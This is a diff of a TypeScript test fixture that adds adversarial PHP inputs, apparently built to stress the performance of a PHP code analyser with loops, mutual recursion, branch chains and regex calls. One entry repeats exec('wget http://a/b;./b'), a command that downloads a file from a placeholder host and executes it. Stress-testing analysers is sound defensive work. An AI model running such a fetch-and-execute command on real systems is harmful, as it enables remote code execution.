@@ -15,6 +15,22 @@ const withList = (unit: string) => fill(unit, `<?php $a=[${"'jpg',".repeat(2_000
 
 /** Contents of 64 KiB that are made to take long: nesting, unclosed marks, encodings, backtracking. */
 export const ADVERSARIAL: Readonly<Record<string, string>> = {
+  'loops through a long text': withLongText('for($i=0;$i<strlen($a);$i++)$o.=$a[$i];$o();'),
+  'loops that change a long text': withLongText('for($i=0;$i<99;$i++)$a[$i]="x";$a();'),
+  'loops in loops': fill('for($i=0;$i<9;$i++){', '<?php $f();'),
+  'loops without an end': fill('while(1){$o.="x";}', '<?php $o();'),
+  'functions that call each other': fill(
+    'f("a");',
+    '<?php function f($a){g($a);g($a);}function g($a){f($a);f($a);}$x();',
+  ),
+  'functions called with different texts': distinct('$o=f("#");$o();', '<?php function f($a){return $a.$a;}'),
+  'conditions in a function': fill(
+    'f(1);',
+    `<?php function f($a){${'if($a)$a.="x";else $a="y";'.repeat(90)}return $a;}$x();`,
+  ),
+  'commands one after the other': fill("exec('wget http://a/b;./b');", '<?php '),
+  'patterns for texts': withLongText('preg_replace("/[a-z ]+/","",$a);sprintf($a,1);'),
+  'lines that may be PHP': fill('$a[$b] .= ->x\n'),
   'long texts turned over': withLongText('~$a;'),
   'long texts turned over many times': withLongText(`${'~'.repeat(55)}$a;`),
   'long texts counted up': withLongText('$a++;', 'z'),
